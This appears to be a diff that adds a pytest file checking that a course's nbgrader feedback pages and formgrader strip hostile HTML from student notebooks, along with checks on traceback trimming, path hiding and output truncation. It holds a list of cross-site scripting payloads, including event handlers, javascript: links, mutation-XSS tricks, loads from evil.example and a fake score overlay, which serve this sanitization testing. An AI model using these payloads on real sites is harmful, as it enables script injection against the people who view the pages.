@@ -1,0 +1,332 @@
+import base64
+import copy
+import re
+import sys
+
+import nbformat
+import pytest
+from bs4 import BeautifulSoup
+from nbconvert.exporters import HTMLExporter
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
+from nbgrader.server_extensions.formgrader import handlers
+from nbgrader.utils import is_grade
+from toy import toy_notebook
+from traitlets.config import Config
+from traitlets.config.loader import PyFileConfigLoader
+
+from labhelpers.checks.report import Item, Report, Table
+from labhelpers.instructor.course.nbgrader import REPOSITORY
+from labhelpers.instructor.grading.feedback import FeedbackExporter
+from labhelpers.instructor.grading.outputs import (
+    CleanOutputs,
+    clean_html,
+    hide_paths,
+)
+
+PIXEL = (
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
+    "AAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+)
+RUN = "window.ran=(window.ran||0)+1"
+
+#: Ways to run a script in the browser of whoever looks at a page. Each is tried as output, as
+#: written answer, as Markdown output and as raw cell.
+HOSTILE_HTML = {
+    "script": f"<script>{RUN}</script>",
+    "script-src": '<script src="https://evil.example/x.js"></script>',
+    "onerror": f'<img src="x" onerror="{RUN}">',
+    "onload": f'<body onload="{RUN}"><svg onload="{RUN}"></svg>',
+    "svg-script": f"<svg><script>{RUN}</script></svg>",
+    "javascript-link": f'<a href="javascript:{RUN}">results</a>',
+    "encoded-link": f'<a href="jav&#x09;ascript:{RUN}">results</a>',
+    "markdown-link": f"[results](javascript:{RUN})",
+    "iframe": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    "data-iframe": f'<iframe src="data:text/html,<script>{RUN}</script>"></iframe>',
+    "data-link": f'<a href="data:text/html,<script>{RUN}</script>">results</a>',
+    "object": f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
+    "form": f'<form action="javascript:{RUN}"><button formaction="javascript:{RUN}">ok</button>',
+    "meta": f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
+    "base": '<base href="https://evil.example/">',
+    "style": "<style>@import 'https://evil.example/x.css'; .score {display: none}</style>",
+    "math": f'<math><mtext></p><img src=x onerror="{RUN}"></mtext></math>',
+    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
+    "unclosed": f'<img src=x onerror="{RUN}"//',
+    "comment": f"<!--><img src=x onerror={RUN}>-->",
+    "details": f'<details open ontoggle="{RUN}">x</details>',
+    "focus": f'<input autofocus onfocus="{RUN}"><video><source onerror="{RUN}"></video>',
+    "overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%">10 of 10</div>',
+    "request": '<img src="/formgrader?path=/tmp/evil">',
+    "widget": f'<script type="application/vnd.jupyter.widget-view+json">{{}}</script>{RUN}',
+}
+
+
+def hostile_notebook():
+    notebook = toy_notebook()
+    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"a": {}}}
+    written = notebook.cells.pop()
+    for place, (name, code) in enumerate(HOSTILE_HTML.items()):
+        data = [
+            {"text/html": code},
+            {"text/markdown": code},
+            {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg">{code}</svg>'},
+            {"text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$ {code}"},
+            {"application/javascript": RUN, "text/plain": code},
+            {"application/vnd.jupyter.widget-view+json": {"model_id": code}},
+            {"text/vnd.mermaid": f"click a href javascript:{RUN}"},
+            {"image/png": f'x" onerror="{RUN}'},
+        ]
+        outputs = [new_output("display_data", data=one) for one in data]
+        injected = {"image/png": {"width": f"1 onerror={RUN}", "alt": '"><script>'}}
+        outputs += [
+            new_output("display_data", data={"image/png": PIXEL}, metadata=injected),
+            new_output(
+                "display_data", data={"text/html": code}, metadata={"text/html": {"isolated": True}}
+            ),
+            new_output("stream", name="stdout", text=code),
+            new_output("error", ename=code, evalue=code, traceback=[code]),
+        ]
+        metadata = {"tags": [f'"><script>{RUN}</script>']}
+        notebook.cells += [
+            new_code_cell(f"# {name}", outputs=outputs, metadata=metadata),
+            new_markdown_cell(f"{name}\n\n{code}", id=f"plain-{place}"),
+            new_raw_cell(code, metadata={"raw_mimetype": "text/html"}),
+        ]
+    written.source = "\n\n".join(HOSTILE_HTML.values())
+    notebook.cells.append(written)
+    return notebook
+
+
+@pytest.fixture(scope="module")
+def config(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("course")
+    (folder / "nbgrader_config.py").write_text((REPOSITORY / "nbgrader_config.py").read_text())
+    return PyFileConfigLoader("nbgrader_config.py", path=str(folder)).load_config()
+
+
+def feedback_page(config, notebook):
+    exporter = FeedbackExporter(config=config)
+    notebook = copy.deepcopy(notebook)
+    for cell in notebook.cells:
+        if is_grade(cell):  # as GetGrades does
+            cell.metadata.nbgrader["score"] = 1.0
+    names = {"notebook": "toy", "score": 1.0, "max_score": 4.0, "late_penalty": 0}
+    return exporter.from_notebook_node(notebook, {"nbgrader": names})[0]
+
+
+def formgrader_page(config, notebook):
+    """The formgrader's page; its exporter has our configuration if it starts in the course."""
+    config = config.copy()
+    config.HTMLExporter.template_name = "formgrade"
+    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
+    exporter = HTMLExporter(config=config)
+    resources = {"index": 0, "total": 1, "base_url": "", "submission_id": "0"}
+    return exporter.from_notebook_node(notebook, resources)[0]
+
+
+PLAIN_ELEMENTS = re.findall(
+    r"\w+",
+    "a b blockquote br code details div em h1 hr i img li ol p pre span strong sub summary sup "
+    "table tbody td th thead tr ul "
+    "button input textarea",  # the formgrader's own
+)
+
+
+def foreign(page):
+    """What a browser could run in the part of a page that shows the notebook."""
+    soup = BeautifulSoup(page, "html.parser").find("main")
+    suspects = []
+    for element in soup.find_all(True):
+        if element.name not in PLAIN_ELEMENTS:
+            suspects.append(element.name)
+        for name, value in element.attrs.items():
+            text = " ".join(value) if isinstance(value, list) else value
+            if name.startswith("on") or name in ("srcdoc", "formaction", "action"):
+                suspects.append(f"{element.name} {name}")
+            if name in ("href", "src") and not re.match(r"https?://|mailto:|#|data:image/", text):
+                suspects.append(f"{element.name} {name}={text[:40]}")
+            if name == "style" and re.search(r"position|url|import|-\d", text):
+                suspects.append(f"{element.name} {name}={text[:40]}")
+    return suspects
+
+
+def test_no_script_is_left_on_the_feedback_page(config):
+    page = feedback_page(config, hostile_notebook())
+    assert foreign(page) == []
+    assert len(re.findall(r"<script", page)) == 2  # MathJax and its settings
+    policy = BeautifulSoup(page, "html.parser").find("meta")["content"]
+    assert "'unsafe-inline'" not in policy.partition("script-src")[2]
+
+
+def test_no_script_is_left_in_the_formgrader(config):
+    assert foreign(formgrader_page(config, hostile_notebook())) == []
+
+
+def test_no_script_is_left_where_the_formgrader_lacks_our_configuration():
+    """As when it was started elsewhere and opened with the path of the course."""
+    notebook, _ = CleanOutputs().preprocess(hostile_notebook(), {})
+    assert foreign(formgrader_page(Config(), notebook)) == []
+
+
+def clean(*outputs, **metadata):
+    """The outputs of a code cell after cleaning."""
+    cell = new_code_cell("", outputs=list(outputs), metadata=metadata)
+    notebook, _ = CleanOutputs().preprocess(new_notebook(cells=[cell]), {})
+    return notebook.cells[0].outputs
+
+
+def clean_text(text):
+    (output,) = clean(new_output("stream", name="stdout", text=text))
+    return output.text
+
+
+def run_cells(*sources):
+    """The error outputs of some cells, as a kernel's IPython writes them."""
+    from IPython.core.interactiveshell import InteractiveShell
+
+    shell = InteractiveShell()
+    errors = []
+    shell._showtraceback = lambda kind, error, lines: errors.append(
+        new_output("error", ename=kind.__name__, evalue=str(error), traceback=lines)
+    )
+    for source in sources:
+        shell.run_cell(source, store_history=True)
+    return errors
+
+
+def test_our_reports_survive():
+    report = Report(
+        "generator-unet",
+        "wrong",
+        0.0,
+        5.0,
+        [Item("shape", "Has <the> shape", "wrong", [("got", "(1, 2)\n  3"), ("likely", "a & b")])],
+        [("hint", "Look at the “stride”")],
+        Table("layers", ("", "yours"), [("1", "Conv2d 1→64")], "a note"),
+    )
+    html = report._repr_html_()
+
+    def parts(text):
+        soup = BeautifulSoup(text, "html.parser")
+        styles = [
+            sorted(part.strip().replace(": ", ":") for part in element["style"].split(";") if part)
+            for element in soup.find_all(style=True)
+        ]
+        names = [element.name for element in soup.find_all(True) if element.name != "tbody"]
+        return names, styles, soup.get_text()
+
+    assert parts(clean_html(html)) == parts(html)
+
+
+def test_figures_and_tables_of_pandas_survive():
+    image = f'<img alt="A head" style="max-width: 100%" src="data:image/png;base64,{PIXEL}">'
+    soup = BeautifulSoup(clean_html(image), "html.parser").img
+    assert soup.attrs["src"].endswith(PIXEL) and soup.attrs["alt"] == "A head"
+    import pandas as pd
+
+    table = pd.DataFrame({"PSNR": [20.1]}).to_html()
+    soup = BeautifulSoup(clean_html(table), "html.parser")
+    assert soup.table["class"] == ["dataframe"] and soup.td.text == "20.1"
+
+
+def test_a_traceback_keeps_the_students_lines_only():
+    define, call, nested = (
+        "import torch\ndef f(x):\n    return torch.nn.Conv2d(1, 2, 3)(x)",
+        "f(torch.zeros(3))",
+        "import json\ntry:\n    json.loads('{')\nexcept Exception as e:\n  raise KeyError from e",
+    )
+    first, second = (clean(error)[0] for error in run_cells(define, call, nested))
+    text = re.sub(r"\x1b\[[\d;]*m", "", "\n".join(first.traceback))
+    assert "return torch.nn.Conv2d(1, 2, 3)(x)" in text and "f(torch.zeros(3))" in text
+    assert "… in torch: Conv2d._conv_forward" in text and text.count("… in") == 1
+    assert "Expected 3D (unbatched)" in text
+    assert "F.conv2d(" not in text and "site-packages" not in text and sys.prefix not in text
+    text = re.sub(r"\x1b\[[\d;]*m", "", "\n".join(second.traceback))
+    assert "… in json: JSONDecoder.raw_decode" in text and "raise KeyError from e" in text
+    assert "scan_once" not in text
+
+
+def test_an_exercise_that_is_not_written_is_one_line():
+    (error,) = run_cells("def f():\n    raise NotImplementedError('not written yet')\nf()")
+    (output,) = clean(error)
+    assert output.traceback == ["NotImplementedError: not written yet"]
+
+
+def test_a_test_cell_shows_no_frame():
+    (error,) = run_cells("secret = 4\n1 / (secret - 4)")
+    graded = {"nbgrader": {"grade": True, "solution": False, "schema_version": 3}}
+    (output,) = clean(error, **graded)
+    assert output.traceback == ["ZeroDivisionError: division by zero"]
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (
+            f"{sys.prefix}/lib/python3.11/site-packages/torch/x.py:3: UserWarning",
+            "torch/x.py:3: UserWarning",
+        ),
+        ("/home/prof/course/notes.txt", "…/notes.txt"),
+        ("now in /srv/nbgrader/course", "now in …"),
+        (f"{REPOSITORY}/labhelpers/blocks.py", "…/labhelpers/blocks.py"),
+        ("C:\\Users\\Prof\\lab\\x.py", "…/x.py"),
+        ("https://example.org/home/prof/x", "https://example.org/home/prof/x"),
+        ("1/2 and a/b, N/A, /data2", "1/2 and a/b, N/A, /data2"),
+    ],
+)
+def test_no_path_of_the_machine_is_shown(text, expected):
+    assert hide_paths(text) == expected
+
+
+def test_what_is_long_is_cut():
+    flood = clean_text("x" * 30_000_000)
+    assert len(flood) < 13_000 and "29,988,000 characters are not shown" in flood
+    (html,) = clean(new_output("display_data", data={"text/html": "<p>x</p>" * 100_000}))
+    assert len(html.data["text/html"]) < 40_000
+    (deep,) = clean(new_output("display_data", data={"text/html": "<div>" * 20_000}))
+    assert len(deep.data["text/html"]) < 80_000
+    many = clean(*(new_output("stream", name="stdout", text=str(n)) for n in range(1000)))
+    assert len(many) == 61 and many[30].text == "… 940 outputs are not shown …\n"
+    big = base64.b64encode(b"x" * 4_000_000).decode()
+    shown = clean(*(new_output("display_data", data={"image/png": big}) for _ in range(8)))
+    assert ["image/png" in output.data for output in shown] == [True] * 4 + [False] * 4
+
+
+def test_a_progress_bar_is_its_last_state():
+    assert clean_text("1 %\r50 %\r100 %\ndone\r\n") == "100 %\ndone\n"
+
+
+def test_the_page_names_repairs_events_and_the_way_to_appeal(config):
+    notebook = toy_notebook()
+    notebook.metadata["labhelpers"] = {
+        "repairs": ["The cell <double> was there twice; the first one counts."],
+        "events": ["The kernel died in cell 5."],
+    }
+    config = config.copy()
+    config.FeedbackExporter.appeal = "Write to ann@example.org."
+    page = feedback_page(config, notebook)
+    text = BeautifulSoup(page, "html.parser").find(id="about-this-page").get_text("|", strip=True)
+    assert text.split("|") == [
+        "Repaired before grading",
+        "The cell <double> was there twice; the first one counts.",
+        "When your notebook ran",
+        "The kernel died in cell 5.",
+        "Write to ann@example.org.",
+    ]
+
+
+def test_an_answer_whose_image_is_lost_is_shown_all_the_same(config):
+    """Colab drops attachments; nbconvert raises then."""
+    notebook = toy_notebook()
+    notebook.cells[-1].source = "See ![this](attachment:gone.png), **please**"
+    assert "See ![this](attachment:gone.png)" in feedback_page(config, notebook)
+
+
+def test_formulas_and_plain_html_of_answers_stay(config):
+    notebook = toy_notebook()
+    answer = "If $a < b$, then x<sub>2</sub> &amp; `if a < b:`\n\n| a |\n|:-:|\n| 1 |\n"
+    notebook.cells[-1].source = answer
+    cleaned, _ = CleanOutputs().preprocess(copy.deepcopy(notebook), {})
+    assert cleaned.cells[-1].source == answer
+    page = feedback_page(config, notebook)
+    assert "$a &lt; b$" in page and "x<sub>2</sub> &amp; <code>if a &lt; b:</code>" in page
+    assert nbformat.validate(cleaned) is None
